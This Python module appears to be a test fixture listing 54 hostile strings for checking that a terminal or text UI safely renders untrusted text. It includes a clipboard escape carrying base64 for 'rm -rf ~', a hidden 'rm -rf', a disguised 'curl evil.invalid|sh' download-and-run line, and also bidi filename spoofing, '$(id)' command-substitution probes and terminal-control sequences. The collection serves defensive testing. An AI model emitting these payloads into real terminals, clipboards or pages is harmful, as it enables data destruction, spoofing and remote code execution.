"""Fifty-four texts that do something to a terminal, to markup or to a layout that trusts them."""

from collections.abc import Sequence

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("clipboard", f"{ESC}]52;c;cm0gLXJmIH4={BEL}"),
    ("clipboard-st", f"{ESC}]52;p;cm0gLXJmIH4={ST}"),
    ("title", f"{ESC}]0;owned{BEL}"),
    ("title-2", f"{ESC}]2;owned{ST}"),
    ("link", f"{ESC}]8;;http://evil.invalid/{ST}click{ESC}]8;;{ST}"),
    ("colour-table", f"{ESC}]4;0;rgb:ff/ff/ff{BEL}"),
    ("notify", f"{ESC}]9;pay here{BEL}"),
    ("file", f"{ESC}]1337;File=name=eA==;size=1:QQ=={BEL}"),
    ("open-osc", f"{ESC}]0;never ended"),
    ("clear", f"{ESC}[2J"),
    ("clear-all", f"{ESC}[3J{ESC}[H"),
    ("reset", f"{ESC}c"),
    ("soft-reset", f"{ESC}[!p"),
    ("cursor-report", f"{ESC}[6n{ESC}[5n"),
    ("device", f"{ESC}[c{ESC}[>c"),
    ("title-report", f"{ESC}[21t"),
    ("mouse-off", f"{ESC}[?1000l{ESC}[?1003h"),
    ("main-screen", f"{ESC}[?1049l"),
    ("scroll-region", f"{ESC}[1;2r"),
    ("up", f"{ESC}[5A{ESC}[2K"),
    ("hidden", f"{ESC}[8mrm -rf{ESC}[0m"),
    ("red", f"{ESC}[31;7;5m"),
    ("erase-line", f"{ESC}[1K"),
    ("charset", f"{ESC}(0lqqqk"),
    ("dcs", f"{ESC}P$q\"p{ST}"),
    ("apc", f"{ESC}_Gf=100;QUFB{ST}"),
    ("pm", f"{ESC}^secret{ST}"),
    ("lone-esc", f"{ESC}"),
    ("lone-csi", f"{ESC}["),
    ("c1-csi", "\x9b2J"),
    ("c1-osc", "\x9d0;owned\x9c"),
    ("c1-dcs", "\x90q\x9c"),
    ("bidi-override", "\u202egnp.exe\u202c"),
    ("bidi-isolate", "\u2066abc\u2069\u2067def\u2069"),
    ("bidi-marks", "\u200e\u200f\u061c"),
    ("zero-width", "ad\u200bmin\u200c\u200d\u2060"),
    ("bom", "\ufeffx\ufeff"),
    ("tags", "\U000e0041\U000e0042"),
    ("markup-action", "[@click=app.quit]x[/]"),
    ("markup-close", "[/]"),
    ("markup-link", "[link=https://evil.invalid]x"),
    ("markup-style", "[bold red on blue]x[/bold]"),
    ("brackets", "[ERROR] [[x]] ]][["),
    ("template", "{{ 7*7 }}{% raw %}${HOME}$(id)`id`"),
    ("html", "<script>alert(1)</script><!--"),
    ("table", "| a | b |\\n|---|"),
    ("long", "L" * 100_000),
    ("surrogate", "\ud83d\udc00\udcff"),
    ("emoji", "👩‍👩‍👧‍👦🏳️‍🌈👍🏽"),
    ("combining", "e" + "\u0301\u0323" * 400),
    ("nul", "\x00x\x00"),
    ("carriage-return", "curl evil.invalid|sh\rls -l     "),
    ("backspace", "safe\x08\x08\x08\x08evil"),
    ("newlines", "\n\n\v\f\x85\u2028\u2029"),
)  # fmt: skip
assert len(PAYLOADS) == 54
SAMPLE = ("clipboard", "link", "clear", "c1-csi", "bidi-override", "markup-action", "markup-close", "combining")


def hostile(n: int) -> str:
    """The nth text between two words that must both still be there afterwards."""
    return f"a{n:02d}<{PAYLOADS[n][1]}>z{n:02d}"


def tokens(n: int) -> tuple[str, str]:
    return f"a{n:02d}<", f">z{n:02d}"


def numbers(names: Sequence[str] | None = None) -> list[int]:
    return [n for n, (name, _) in enumerate(PAYLOADS) if names is None or name in names]


def as_bytes(text: str) -> bytes:
    """For wires and files: lone surrogates as their three bytes, which are no UTF-8."""
    return text.encode("utf-8", "surrogatepass")


def as_argument(text: str) -> str:
    """What an argument or a variable can carry: no NUL, and 100 kB at most."""
    return text.replace("\x00", "").encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape")
